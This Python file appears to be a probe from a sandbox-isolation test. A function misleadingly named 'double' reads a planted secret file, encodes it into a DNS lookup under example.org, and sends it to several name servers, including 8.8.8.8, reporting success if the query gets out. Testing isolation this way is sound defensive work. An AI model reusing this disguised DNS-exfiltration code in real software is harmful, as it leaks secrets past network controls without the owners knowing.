"""Asks a name server for a name that holds what it found, so that the secret leaves the machine without a connection.

If the name can be asked for at all, it says so.
"""
# bites: privileged
# control: no the throw-away place has no network either
import os
import socket


def double(x):
    found = []
    try:
        found.append(open("/tmp/hostile-secret.txt").read().strip())
    except OSError:
        pass
    name = "-".join([*found, str(os.getpid())])[:60] + ".example.org"
    query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + b"".join(
        bytes([len(part)]) + part.encode() for part in name.split(".")
    ) + b"\0\0\x01\0\x01"
    for server in ("127.0.0.53", "8.8.8.8", "10.0.0.2"):
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as door:
                door.sendto(query, (server, 53))
                print("PRIVILEGED" + "-OK")
        except OSError:
            pass
    try:
        socket.getaddrinfo(name, 80)
        print("PRIVILEGED" + "-OK")
    except OSError:
        pass
    return x
